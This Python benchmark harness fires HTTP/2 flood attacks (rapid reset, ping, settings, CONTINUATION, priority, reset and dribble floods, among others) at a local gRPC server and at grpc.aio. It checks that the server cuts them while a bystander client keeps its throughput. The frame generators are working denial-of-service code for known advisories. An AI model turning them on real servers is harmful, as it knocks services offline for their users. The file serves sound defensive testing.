"""HTTP/2 floods against our server and grpc.aio's, with a well-behaved client alongside.

    python -m benchmarks.floods                         # every attack, both servers, 5 s each
    python -m benchmarks.floods --seconds 2 --attacks ping,rapid-reset --servers ours
    python -m benchmarks.floods --json                  # the rows, machine-readable

For every attack of :data:`ATTACKS` (the advisories of issue #13) and every server,
on a fresh server process each time:

1. quiet: a lock-step bystander (one stream, one number at a time, each sum checked)
   runs alone for ``--seconds``: its msg/s and p99 round trip;
2. attack: the same bystander on its own connection while one attacker floods for
   ``--seconds`` from this process over raw HTTP/2, connecting again each time the
   server closes its connection (as an attacker would); the server's RSS is sampled
   throughout (peak), read before and, after the attack, once it settles;
3. the server's log (ours: JSON at ``warning``) is read back.

It prints a table (attacker frames written, and the most any one connection got the
server to read before the cut, from our server's warning; the bystander's msg/s
and p99 during the attack against quiet; RSS before / peak / after) and exits 1 if a
criterion fails for our server (grpc.aio's figures are for comparison):

- each attack with a bound is cut: every attacker connection closed, each with
  exactly one warning naming the attacker's address and the limit, after at most
  ``bound`` frames read by the server; or refused at once, without a warning, while
  the attacker's address cools down after a cut (``--flood-cooldown``: the "cooled"
  column);
- the bystander keeps at least half its quiet rate, and a p99 under 10 ms
  (``--no-timing`` drops these two, for a smoke run on a busy machine);
- RSS grows by at most 16 MiB during the attack, and is back within 4 MiB after;
- no traceback and no line above WARNING in the server's log.

The bystander is the Go load client (benchmarks/loadgen, as bench.py builds it) in
ping-pong mode when go and grpc-go are installed, else ``--bystander python``: our
NumberClient in a subprocess of its own. Only 127.0.0.1 is used; every loop is
bounded in time; the servers are always stopped. Method and results: docs/floods.md.
"""

from __future__ import annotations

import argparse
import asyncio
import contextlib
import itertools
import json
import os
import re
import statistics
import struct
import subprocess
import sys
import time
from collections import Counter
from collections.abc import Callable, Coroutine, Iterator
from dataclasses import asdict, dataclass, field
from pathlib import Path
from typing import Any

import hpack

from benchmarks.bench import (
    HOST,
    ROOT,
    SERVERS,
    BenchError,
    Load,
    ServerProcess,
    build_loadgen,
    go_run,
    number,
)

MiB = 1 << 20
PATH = "/tutorial.NumberService/AccumulateNumbers"
PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, PRIORITY, RST_STREAM, SETTINGS = 0x0, 0x1, 0x2, 0x3, 0x4
PING, GOAWAY, WINDOW_UPDATE, CONTINUATION = 0x6, 0x7, 0x8, 0x9
END_STREAM, END_HEADERS = 0x1, 0x4
CANCEL = 0x8
RSS_GROWTH = 16 * MiB  # at most, during an attack
RSS_LEFT = 4 * MiB  # at most, once the attack is over and the server settled
MIN_RATE = 0.5  # of the quiet rate, at least, during an attack
MAX_P99_US = 10_000.0
BATCH = 100  # frames per write
CONNECT_TIMEOUT = 5.0
OURS = [*SERVERS["ours"], "--log-format", "json"]  # --log-level warning: the lines that matter


def frame(kind: int, flags: int, stream_id: int, payload: bytes = b"") -> bytes:
    """One HTTP/2 frame, exactly as given."""
    return (
        struct.pack(">I", len(payload))[1:] + struct.pack(">BBI", kind, flags, stream_id) + payload
    )


def grpc_message(payload: bytes, length: int | None = None) -> bytes:
    return struct.pack(">?I", False, len(payload) if length is None else length) + payload


REQUEST = [
    (":method", "POST"),
    (":scheme", "http"),
    (":path", PATH),
    (":authority", HOST),
    ("content-type", "application/grpc"),
    ("te", "trailers"),
]
# A fresh encoder's block refers to the static table only: valid on any connection,
# however many times it is sent.
REQUEST_BLOCK = hpack.Encoder().encode(REQUEST)
NO_PSEUDO_BLOCK = hpack.Encoder().encode(REQUEST[4:])  # no :method, :scheme, :path
ONE = grpc_message(b"\x08\x01")  # NumberRequest(num=1)
SETTINGS_FRAME = frame(SETTINGS, 0, 0)
BIG_WINDOW = 2**31 - 1


def streams(start: int = 1) -> Iterator[int]:
    return itertools.count(start, 2)


# --- the attacks ---------------------------------------------------------------------------


@dataclass(frozen=True)
class Attack:
    """One flood: what it sends (batches of frames, forever), and what it should get."""

    name: str
    advisory: str
    frames: Callable[[], Iterator[bytes]]  # batches of frames after the preface+SETTINGS
    limit: str | None  # what our server's warning names; None: not cut, held by flow control
    bound: int | None  # frames our server reads on one connection, at most, before the cut
    reads: bool = True  # the attacker reads what the server sends (else never)
    client: Callable[[int, float], Coroutine[Any, Any, int]] | None = None  # a real client instead


def _repeat(one: bytes, head: bytes = b"") -> Callable[[], Iterator[bytes]]:
    def batches() -> Iterator[bytes]:
        if head:
            yield head
        block = one * BATCH
        while True:
            yield block

    return batches


def _per_stream(build: Callable[[int], bytes], first: int = 1) -> Callable[[], Iterator[bytes]]:
    def batches() -> Iterator[bytes]:
        ids = streams(first)
        while True:
            yield b"".join(build(next(ids)) for _ in range(BATCH // 2))

    return batches


def _rapid_reset(stream_id: int) -> bytes:
    return frame(HEADERS, END_HEADERS, stream_id, REQUEST_BLOCK) + frame(
        RST_STREAM, 0, stream_id, struct.pack(">I", CANCEL)
    )


def _no_pseudo_headers(stream_id: int) -> bytes:
    return frame(HEADERS, END_HEADERS | END_STREAM, stream_id, NO_PSEUDO_BLOCK)


def _continuation() -> Iterator[bytes]:
    yield frame(HEADERS, 0, 1, REQUEST_BLOCK[:8])
    block = frame(CONTINUATION, 0, 1, b"\x00" * 16) * BATCH
    while True:
        yield block


def _refused() -> Iterator[bytes]:
    """Streams past SETTINGS_MAX_CONCURRENT_STREAMS: the server answers each with
    RST_STREAM(REFUSED_STREAM), and the attacker reads none of them."""
    ids = streams()
    while True:
        yield b"".join(frame(HEADERS, END_HEADERS, next(ids), REQUEST_BLOCK) for _ in range(BATCH))


def _big_window() -> bytes:
    settings = frame(SETTINGS, 0, 0, struct.pack(">HI", 0x4, BIG_WINDOW))  # INITIAL_WINDOW_SIZE
    return settings + frame(WINDOW_UPDATE, 0, 0, struct.pack(">I", BIG_WINDOW - 65_535))


def _dribble() -> Iterator[bytes]:
    """A huge window, then streams of many requests each: answers the attacker reads
    a byte at a time (the reading is throttled in :func:`attack_once`)."""
    yield _big_window()
    messages = ONE * 1000
    for stream_id in range(1, 101, 2):
        yield frame(HEADERS, END_HEADERS, stream_id, REQUEST_BLOCK) + frame(
            DATA, 0, stream_id, messages
        )
    while True:
        yield b""


async def _partial_messages(port: int, seconds: float) -> int:
    """The review's attack, within flow control (h2 keeps the windows): connection
    after connection, 100 streams each sending as much as the server's windows allow
    of a 4 MiB message that it never finishes, then holding them open (0: no answers)."""
    from h2.config import H2Configuration
    from h2.connection import H2Connection
    from h2.events import ConnectionTerminated, DataReceived

    size = 4 * MiB
    until = time.monotonic() + seconds
    while time.monotonic() < until:
        reader, writer = await asyncio.wait_for(
            asyncio.open_connection(HOST, port), CONNECT_TIMEOUT
        )
        h2 = H2Connection(H2Configuration(client_side=True))
        h2.initiate_connection()
        left = {}  # stream id: body bytes still to send
        for _ in range(100):
            stream_id = h2.get_next_available_stream_id()
            h2.send_headers(stream_id, REQUEST)
            h2.send_data(stream_id, grpc_message(b"", length=size))
            left[stream_id] = size - 1
        ended = False
        try:
            while not ended and time.monotonic() < until:
                for stream_id, rest in list(left.items()):
                    with contextlib.suppress(Exception):  # reset or closed by the server
                        room = min(rest, h2.local_flow_control_window(stream_id), 16_384)
                        if room > 0:
                            h2.send_data(stream_id, bytes(room))
                            left[stream_id] = rest - room
                writer.write(h2.data_to_send())
                await writer.drain()
                try:
                    data = await asyncio.wait_for(reader.read(65536), 0.2)
                except TimeoutError:
                    continue
                if not data:
                    break
                for event in h2.receive_data(data):
                    if isinstance(event, DataReceived):
                        h2.acknowledge_received_data(event.flow_controlled_length, event.stream_id)
                    elif isinstance(event, ConnectionTerminated):
                        ended = True
                if not any(left.values()):  # every stream sent all it may: hold them
                    await asyncio.sleep(min(0.5, max(0.0, until - time.monotonic())))
                    break
        except (ConnectionError, TimeoutError):
            pass
        finally:
            writer.transport.abort()
    return 0


def _nothing() -> Iterator[bytes]:
    return iter(())


async def _pipelined(port: int, seconds: float) -> int:
    """Not an attack: heavy legitimate traffic on one connection (fairness), our
    client with 32 pipelined streams, up to 256 numbers unanswered on each; returns
    the answers it read."""
    from number_service import NumberClient

    until = time.monotonic() + seconds
    answers = 0

    async def one(client: NumberClient) -> None:
        window = asyncio.Semaphore(256)

        async def numbers() -> Any:
            while time.monotonic() < until:
                await window.acquire()
                yield 1

        nonlocal answers
        async for _ in client.accumulate(numbers()):
            answers += 1
            window.release()

    async with NumberClient(HOST, port, timeout=seconds + 30) as client:
        await asyncio.gather(*(one(client) for _ in range(32)))
    return answers


ATTACKS = {
    attack.name: attack
    for attack in [
        Attack(
            "empty-data",
            "CVE-2019-9518",
            _repeat(
                frame(DATA, 0, 1),
                frame(HEADERS, END_HEADERS, 1, REQUEST_BLOCK) + frame(DATA, 0, 1, ONE),
            ),
            "--max-empty-frames",
            8,
        ),
        Attack(
            "ping",
            "CVE-2019-9512",
            _repeat(frame(PING, 0, 0, bytes(8))),
            "--min-ping-interval",
            8,
            reads=False,
        ),
        Attack(
            "settings",
            "CVE-2019-9515",
            _repeat(frame(SETTINGS, 0, 0, struct.pack(">HI", 0x4, 65_535))),
            "--max-settings",
            16,
            reads=False,
        ),
        Attack("rapid-reset", "CVE-2023-44487", _per_stream(_rapid_reset), "--max-resets", 210),
        Attack(
            "no-pseudo-headers",
            "CVE-2019-9516 style",
            _per_stream(_no_pseudo_headers),
            "--max-resets",
            310,
        ),
        Attack("continuation", "CONTINUATION flood (2024)", _continuation, "h2's limit", 70),
        Attack(
            "window-update",
            "WINDOW_UPDATE flood",
            _repeat(frame(WINDOW_UPDATE, 0, 0, struct.pack(">I", 1))),
            "--max-window-updates",
            10,
        ),
        Attack(
            "priority",
            "CVE-2019-9513",
            _repeat(frame(PRIORITY, 0, 3, struct.pack(">IB", 0, 15))),
            "--max-priority-frames",
            110,
        ),
        Attack("reset-flood", "CVE-2019-9514", _refused, "--max-resets", 310, reads=False),
        Attack("dribble", "CVE-2019-9511", _dribble, None, None),
        Attack(
            "partial-messages",
            "review (issue #13)",
            _nothing,
            None,
            None,
            client=_partial_messages,
        ),
        Attack("pipelined", "heavy legitimate traffic", _nothing, None, None, client=_pipelined),
    ]
}


# --- the attacker ------------------------------------------------------------------------


@dataclass
class Attacked:
    """What one attacker did and saw, over all its connections."""

    connections: int = 0
    cut: int = 0  # connections the server closed
    cooled: int = 0  # of those, refused at once: the address was cooling down after a cut
    unfinished: int = 0  # connections still open when the attack's time was up
    frames_sent: int = 0  # frames written (the socket took them)
    answers: int = 0  # a real client's answers read (attack.client)
    cpu_s: float = 0.0  # a real client's CPU time (its process's user + system)
    goaways: list[tuple[int, str]] = field(default_factory=list)  # (code, debug data)
    peers: list[str] = field(default_factory=list)  # the attacker's addresses


#: How the GOAWAY of a connection refused during a cool-down begins (connections.py).
COOLING = "cooling down after a flood"


def _frames_in(data: bytes) -> int:
    count, pos = 0, 0
    while len(data) - pos >= 9:
        pos += 9 + int.from_bytes(data[pos : pos + 3], "big")
        count += 1
    return count


def _goaway(data: bytes) -> tuple[int, str] | None:
    """The first GOAWAY in what the server sent (whole frames from the start)."""
    pos = 0
    while len(data) - pos >= 9:
        length = int.from_bytes(data[pos : pos + 3], "big")
        if data[pos + 3] == GOAWAY and len(data) - pos >= 9 + length >= 17:
            code = int.from_bytes(data[pos + 13 : pos + 17], "big")
            return code, data[pos + 17 : pos + 9 + length].decode("utf-8", "replace")
        pos += 9 + length
    return None


async def attack_once(port: int, attack: Attack, until: float, result: Attacked) -> None:
    """One attacker connection, until the server closes it or ``until`` (monotonic)."""
    reader, writer = await asyncio.wait_for(asyncio.open_connection(HOST, port), CONNECT_TIMEOUT)
    local = writer.get_extra_info("sockname")
    result.connections += 1
    result.peers.append(f"{local[0]}:{local[1]}")
    received = bytearray()
    closed = asyncio.Event()

    async def read() -> None:
        dribble = attack.name == "dribble"
        try:
            while True:
                chunk = await reader.read(1 if dribble else 65536)
                if not chunk:
                    break
                received.extend(chunk)
                if dribble:
                    await asyncio.sleep(0.01)
        except ConnectionError:
            pass
        closed.set()

    reading = asyncio.create_task(read()) if attack.reads else None
    try:
        writer.write(PREFACE + SETTINGS_FRAME)
        for batch in attack.frames():
            if time.monotonic() >= until or closed.is_set():
                break
            if not batch:  # the attack has sent what it sends: wait
                with contextlib.suppress(TimeoutError):
                    await asyncio.wait_for(closed.wait(), max(0.0, until - time.monotonic()))
                break
            writer.write(batch)
            try:
                await asyncio.wait_for(writer.drain(), max(0.01, until - time.monotonic()))
            except TimeoutError:
                break
            except ConnectionError:  # the reader (below) takes what came before
                if reading is None:
                    closed.set()
                break
            result.frames_sent += _frames_in(batch)
            # drain() does not yield while the socket takes every byte at once (on 3.12
            # more often): without this the attacker holds the loop it shares with the
            # reader of its GOAWAY, and with the suite's in-process bystander.
            await asyncio.sleep(0)
        if reading is None:  # take what the server sent, if the socket still has it
            with contextlib.suppress(TimeoutError, ConnectionError):
                while chunk := await asyncio.wait_for(reader.read(1 << 20), 0.5):
                    received.extend(chunk)
                closed.set()
    finally:
        if reading is not None:
            if not closed.is_set() and time.monotonic() < until:
                with contextlib.suppress(TimeoutError):
                    await asyncio.wait_for(closed.wait(), 1.0)
            reading.cancel()
            with contextlib.suppress(asyncio.CancelledError):
                await reading
        writer.transport.abort()
    goaway = _goaway(bytes(received))
    if goaway is not None and goaway[1].startswith(COOLING):
        result.cooled += 1
    elif goaway is not None:
        result.goaways.append(goaway)
    if closed.is_set():
        result.cut += 1
    else:
        result.unfinished += 1


async def attack_for(port: int, attack: Attack, seconds: float) -> Attacked:
    """Attack for ``seconds``, connecting again whenever the server closes the connection."""
    result = Attacked()
    if attack.client is not None:  # in a process of its own: a client has a loop to share
        result.connections = result.unfinished = 1
        proc = await asyncio.create_subprocess_exec(
            *(sys.executable, "-m", "benchmarks.floods", "client", attack.name),
            *(str(port), str(seconds)),
            cwd=ROOT,
            stdin=subprocess.DEVNULL,
            stdout=subprocess.PIPE,
        )
        out, _ = await asyncio.wait_for(proc.communicate(), seconds + 60)
        if proc.returncode != 0:
            raise BenchError(f"{attack.name}: the client exited {proc.returncode}")
        done = json.loads(out)
        result.answers, result.cpu_s = done["answers"], done["cpu_s"]
        return result
    until = time.monotonic() + seconds
    while time.monotonic() < until:
        try:
            await attack_once(port, attack, until, result)
        except (ConnectionError, TimeoutError):
            await asyncio.sleep(0.01)
    return result


# --- the bystander -------------------------------------------------------------------------


async def lock_step(port: int, seconds: float) -> dict[str, Any]:
    """Our NumberClient, one stream, lock-step, every sum checked: msg/s and p99."""
    from number_service import NumberClient

    latencies: list[float] = []
    client = NumberClient(HOST, port, timeout=seconds + 30)
    async with client, client.session() as session:
        await session.add(0)  # connected and warm
        total = 0
        start = time.monotonic()
        for i in itertools.count():
            if time.monotonic() - start >= seconds:
                break
            total += number(i)
            t0 = time.perf_counter()
            got = await session.add(number(i))
            latencies.append(time.perf_counter() - t0)
            if got != total:
                raise BenchError(f"bystander: wrong sum after {i + 1} numbers")
        elapsed = time.monotonic() - start
    latencies.sort()
    p99 = latencies[int(0.99 * (len(latencies) - 1))] if latencies else 0.0
    return {"msg_per_s": len(latencies) / elapsed, "p99_us": p99 * 1e6, "messages": len(latencies)}


@dataclass
class Bystander:
    """Runs the lock-step client in a process of its own: Go's, or ours."""

    loadgen: Path | None

    def run(self, server: ServerProcess, seconds: float) -> dict[str, Any]:
        if self.loadgen is not None:
            load = Load(seconds, 0.2, 1, 1, 1, 0)
            return go_run(self.loadgen, server, "pingpong", load)
        done = subprocess.run(
            [
                sys.executable,
                "-m",
                "benchmarks.floods",
                "bystander",
                str(server.port),
                str(seconds),
            ],
            capture_output=True,
            text=True,
            timeout=seconds + 60,
            cwd=ROOT,
            check=False,
        )
        if done.returncode != 0:
            raise BenchError(f"bystander failed: {done.stderr.strip()[-500:]}")
        result: dict[str, Any] = json.loads(done.stdout)
        return result


# --- one attack on one server ----------------------------------------------------------------


@dataclass
class Row:
    server: str
    attack: str
    advisory: str
    seconds: float
    connections: int = 0
    cut: int = 0
    cooled: int = 0  # of those cut, refused at once in a cool-down
    frames_sent: int = 0
    most_read: int | None = None  # frames our server read on one connection before a cut
    bound: int | None = None
    goaway: str = "-"
    quiet_rate: float = 0.0
    quiet_p99_us: float = 0.0
    rate: float = 0.0
    p99_us: float = 0.0
    rss_before: int = 0
    rss_peak: int = 0
    rss_after: int = 0
    server_cpu_s: float = 0.0  # the server's CPU time over the attack phase
    client_rate: float = 0.0  # a real client's answers per second (attack.client)
    client_cpu_s: float = 0.0  # that client's CPU time
    failures: list[str] = field(default_factory=list)
    note: str = ""  # what went wrong for a server that is not judged (grpc.aio)


async def _sample_rss(server: ServerProcess, peak: list[int], stop: asyncio.Event) -> None:
    while not stop.is_set():
        with contextlib.suppress(BenchError):
            peak[0] = max(peak[0], server.rss())
        with contextlib.suppress(TimeoutError):
            await asyncio.wait_for(stop.wait(), 0.05)


def _settled_rss(server: ServerProcess, timeout: float = 10.0) -> int:
    """RSS once two readings 0.2 s apart agree within 64 KiB."""
    deadline = time.monotonic() + timeout
    before = server.rss()
    while True:
        time.sleep(0.2)
        now = server.rss()
        if abs(now - before) < 64 * 1024 or time.monotonic() > deadline:
            return now
        before = now


async def _attack_with_bystander(
    server: ServerProcess, attack: Attack, seconds: float, bystander: Bystander
) -> tuple[Attacked, dict[str, Any], int]:
    peak = [server.rss()]
    stop = asyncio.Event()
    sampler = asyncio.create_task(_sample_rss(server, peak, stop))
    watching = asyncio.create_task(asyncio.to_thread(bystander.run, server, seconds))
    await asyncio.sleep(0.3)  # the bystander connected and measuring
    try:
        attacked = await attack_for(server.port, attack, seconds)
        try:
            during = await watching
        except BenchError as err:  # a result too: the attack cost the bystander its stream
            during = {"msg_per_s": 0.0, "p99_us": 0.0, "error": str(err)}
    finally:
        stop.set()
        await sampler
    return attacked, during, peak[0]


def _log_lines(lines: list[str]) -> list[dict[str, Any]]:
    out = []
    for line in lines:
        try:
            record = json.loads(line)
        except ValueError:
            record = {"level": "RAW", "message": line}
        out.append(record)
    return out


def run_one(name: str, attack: Attack, seconds: float, bystander: Bystander, strict: bool) -> Row:
    argv = OURS if name == "ours" else SERVERS[name]
    server = ServerProcess(name, argv)
    row = Row(name, attack.name, attack.advisory, seconds, bound=attack.bound)
    try:
        quiet = bystander.run(server, seconds)
        row.quiet_rate, row.quiet_p99_us = quiet["msg_per_s"], quiet["p99_us"]
        row.rss_before = _settled_rss(server)
        logged = len(server.lines)
        cpu = server.cpu()
        attacked, during, row.rss_peak = asyncio.run(
            _attack_with_bystander(server, attack, seconds, bystander)
        )
        row.server_cpu_s = server.cpu() - cpu
        row.client_rate, row.client_cpu_s = attacked.answers / seconds, attacked.cpu_s
        row.rate, row.p99_us = during["msg_per_s"], during["p99_us"]
        if "error" in during and name == "ours":
            row.failures.append(during["error"])
        elif "error" in during:
            row.note = during["error"]
        row.rss_after = _settled_rss(server)
        row.connections, row.cut, row.cooled, row.frames_sent = (
            attacked.connections,
            attacked.cut,
            attacked.cooled,
            attacked.frames_sent,
        )
        if attacked.goaways:
            codes = {code for code, _ in attacked.goaways}
            row.goaway = ",".join(_CODE_NAMES.get(code, str(code)) for code in sorted(codes))
        server.alive()
        if name == "ours":
            _judge(row, attack, attacked, _log_lines(server.lines[logged:]), strict)
    finally:
        server.stop()
    return row


_CODE_NAMES = {
    0x0: "NO_ERROR",
    0x1: "PROTOCOL_ERROR",
    0x6: "FRAME_SIZE_ERROR",
    0x9: "COMPRESSION_ERROR",
    0xB: "ENHANCE_YOUR_CALM",
}


def _judge(
    row: Row, attack: Attack, attacked: Attacked, records: list[dict[str, Any]], strict: bool
) -> None:
    """Our server's criteria (see the module docstring); failures go into ``row``."""
    fail = row.failures.append
    loud = [r for r in records if r.get("level") not in ("WARNING", "INFO", "DEBUG")]
    if loud:
        fail(f"log lines above WARNING: {[r.get('message') for r in loud][:3]}")
    if any("Traceback" in json.dumps(r) for r in records):
        fail("a traceback in the log")
    warnings = [r for r in records if r.get("level") == "WARNING"]
    cuts = [r for r in warnings if str(r.get("message", "")).startswith("closed the connection")]
    if attack.limit is None:
        if warnings:
            said = [r.get("message") for r in warnings][:3]
            fail(f"warnings for an attack that is not cut: {said}")
    else:
        # The last connection may still be open when the time is up (cut or not).
        if attacked.cut < attacked.connections - 1 or not attacked.cut:
            fail(f"{attacked.connections - attacked.cut} attacker connection(s) not cut")
        # Connections refused in a cool-down get no warning; the attacker may not
        # have read the GOAWAY that says so (it does not read, or its socket was
        # reset first), so "cooled" is at least what it saw.
        most = attacked.connections - attacked.cooled
        if not 1 <= len(cuts) <= most or len(warnings) != len(cuts):
            fail(f"{len(warnings)} warnings for {most} connections cut, at most")
        peers = Counter(attacked.peers)
        for record in cuts:
            message = str(record.get("message"))
            if peers[str(record.get("peer"))] < 1 or attack.limit not in message:
                fail(f"warning names no attacker connection and {attack.limit}: {message}")
                break
            peers[str(record.get("peer"))] -= 1  # one warning per connection at most
        read = [int(m.group(1)) for r in cuts if (m := _AFTER.search(str(r.get("message"))))]
        row.most_read = max(read) if read else None
        if row.most_read is None or (attack.bound is not None and row.most_read > attack.bound):
            fail(f"cut after {row.most_read} frames read (bound {attack.bound})")
    if row.rss_peak - row.rss_before > RSS_GROWTH:
        fail(f"RSS grew by {(row.rss_peak - row.rss_before) / MiB:.1f} MiB")
    if row.rss_after - row.rss_before > RSS_LEFT:
        fail(f"RSS {(row.rss_after - row.rss_before) / MiB:.1f} MiB above where it was")
    if strict:
        if row.rate < MIN_RATE * row.quiet_rate:
            fail(f"bystander at {row.rate:.0f} msg/s, under half of {row.quiet_rate:.0f}")
        if row.p99_us >= MAX_P99_US:
            fail(f"bystander p99 {row.p99_us / 1000:.1f} ms")


_AFTER = re.compile(r"after (\d+) frames")


def table(rows: list[Row]) -> str:
    head = (
        f"{'server':9} {'attack':18} {'cut':>11} {'cooled':>7} {'read':>5} {'bound':>5} "
        f"{'sent':>9} "
        f"{'msg/s attack/quiet':>20} {'p99 ms attack/quiet':>20} "
        f"{'RSS MiB before/peak/after':>26} {'server cpu':>10}  result"
    )
    lines = [head, "-" * len(head)]
    for r in rows:
        read = "-" if r.most_read is None else str(r.most_read)
        bound = "-" if r.bound is None else str(r.bound)
        rate = f"{r.rate:,.0f}/{r.quiet_rate:,.0f}"
        p99 = f"{r.p99_us / 1000:.2f}/{r.quiet_p99_us / 1000:.2f}"
        rss = f"{r.rss_before / MiB:.1f}/{r.rss_peak / MiB:.1f}/{r.rss_after / MiB:.1f}"
        result = "ok" if r.server == "ours" else r.note
        if r.failures:
            result = "FAIL: " + "; ".join(r.failures)
        lines.append(
            f"{r.server:9} {r.attack:18} {f'{r.cut}/{r.connections}':>11} {r.cooled:>7} "
            f"{read:>5} {bound:>5} "
            f"{r.frames_sent:>9} {rate:>20} {p99:>20} {rss:>26} "
            f"{r.server_cpu_s / r.seconds:>10.2f}  {result}"
        )
    clients = [r for r in rows if r.client_rate]
    for r in clients:  # a real client (attack.client): what it got, and what it cost
        lines.append(
            f"{r.server} {r.attack}: the client read {r.client_rate:,.0f} answers/s "
            f"on {r.client_cpu_s / r.seconds:.2f} cores"
        )
    return "\n".join(lines)


def main(argv: list[str] | None = None) -> int:
    args = sys.argv[1:] if argv is None else argv
    if args[:1] == ["bystander"]:  # the Python bystander's own process
        port, seconds = int(args[1]), float(args[2])
        print(json.dumps(asyncio.run(lock_step(port, seconds))))
        return 0
    if args[:1] == ["client"]:  # a legitimate client's own process (attack_for)
        client = ATTACKS[args[1]].client
        assert client is not None, args[1]
        answers = asyncio.run(client(int(args[2]), float(args[3])))
        print(json.dumps({"answers": answers, "cpu_s": time.process_time()}))
        return 0
    parser = argparse.ArgumentParser(
        prog="python -m benchmarks.floods", description=__doc__.split("\n\n")[0]
    )
    parser.add_argument("--seconds", type=float, default=5.0, help="of quiet, then of attack")
    parser.add_argument("--attacks", default=",".join(ATTACKS), help="comma-separated")
    parser.add_argument(
        "--servers", default="ours,grpc.aio", help="comma-separated: ours, grpc.aio"
    )
    parser.add_argument("--bystander", choices=["auto", "go", "python"], default="auto")
    parser.add_argument(
        "--cache",
        type=Path,
        default=Path(os.environ.get("XDG_CACHE_HOME", Path.home() / ".cache"))
        / "number-service-bench",
        help="where the Go bystander is built (bench.py's cache)",
    )
    parser.add_argument(
        "--no-timing", action="store_true", help="judge no rate or p99 (smoke runs)"
    )
    parser.add_argument("--json", action="store_true")
    opts = parser.parse_args(args)
    attacks = [ATTACKS[name] for name in opts.attacks.split(",")]
    servers = opts.servers.split(",")
    loadgen = None
    if opts.bystander != "python":
        loadgen, why = build_loadgen(opts.cache)
        if loadgen is None and opts.bystander == "go":
            print(f"floods: no Go bystander: {why}", file=sys.stderr)
            return 1
    bystander = Bystander(loadgen)
    rows = []
    for attack in attacks:
        for name in servers:
            print(f"floods: {attack.name} on {name} ...", file=sys.stderr, flush=True)
            rows.append(run_one(name, attack, opts.seconds, bystander, not opts.no_timing))
    if opts.json:
        print(json.dumps([asdict(r) for r in rows], indent=2))
    else:
        who = "go loadgen" if loadgen else "python NumberClient"
        print(f"bystander: {who}, {opts.seconds:g} s per phase")
        print(table(rows))
    failed = [r for r in rows if r.failures]
    if not opts.json:
        print("PASS" if not failed else f"FAIL: {len(failed)} row(s)")
    quiet = statistics.median(r.quiet_rate for r in rows) if rows else 0
    print(f"floods: median quiet rate {quiet:,.0f} msg/s", file=sys.stderr)
    return 1 if failed else 0


if __name__ == "__main__":
    sys.exit(main())
